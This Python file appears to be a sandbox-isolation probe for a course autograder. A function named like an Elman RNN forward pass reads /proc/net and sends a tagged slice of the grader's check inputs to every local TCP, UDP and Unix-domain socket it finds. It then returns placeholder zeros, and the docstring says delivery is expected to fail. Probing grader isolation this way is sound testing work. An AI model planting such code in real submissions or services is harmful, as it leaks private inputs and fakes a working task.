"""Tries to send the check inputs it receives to a listener on the grader's
machine: to every 127.0.0.1 port listening for TCP or bound for UDP, and to
every Unix-domain socket (paths and abstract names), as /proc/net lists
them. Counts what was delivered.
Expected in the sandbox: /proc/net lists only the sandbox's own empty
network and nothing is delivered: ok, 1 of 10 (the shapes)."""

import pathlib
import socket

import numpy as np


def _local_ports(table, state):
    ports = set()
    try:
        lines = pathlib.Path(f"/proc/net/{table}").read_text().splitlines()[1:]
    except OSError:
        return ports
    for line in lines:
        fields = line.split()
        address, port = fields[1].split(":")
        if address == "0100007F" and fields[3] == state:
            ports.add(int(port, 16))
    return ports


def _unix_paths():
    try:
        lines = pathlib.Path("/proc/net/unix").read_text().splitlines()[1:]
    except OSError:
        return set()
    return {line.split()[-1] for line in lines if len(line.split()) == 8}


def _send(data):
    delivered = 0
    attempts = [
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port))
        for port in _local_ports("tcp", "0A")  # listening
    ]
    attempts += [
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port))
        for port in _local_ports("udp", "07")  # bound
    ]
    for path in _unix_paths():
        address = "\0" + path[1:] if path.startswith("@") else path
        attempts += [
            (socket.AF_UNIX, kind, address)
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)
        ]
    for family, kind, address in attempts:
        try:
            with socket.socket(family, kind) as connection:
                connection.settimeout(1)
                connection.connect(address)
                connection.sendall(data)
                delivered += 1
        except OSError:
            pass
    return delivered


def elman_forward(x, h0, U, W, b, V, c):
    if _send(b"course-grading-exfiltration " + np.asarray(x).tobytes()[:64]):
        raise RuntimeError("delivered the inputs")
    return np.zeros((*x.shape[:2], W.shape[0])), np.zeros((*x.shape[:2], V.shape[1]))


elman_loss = elman_bptt = elman_forward
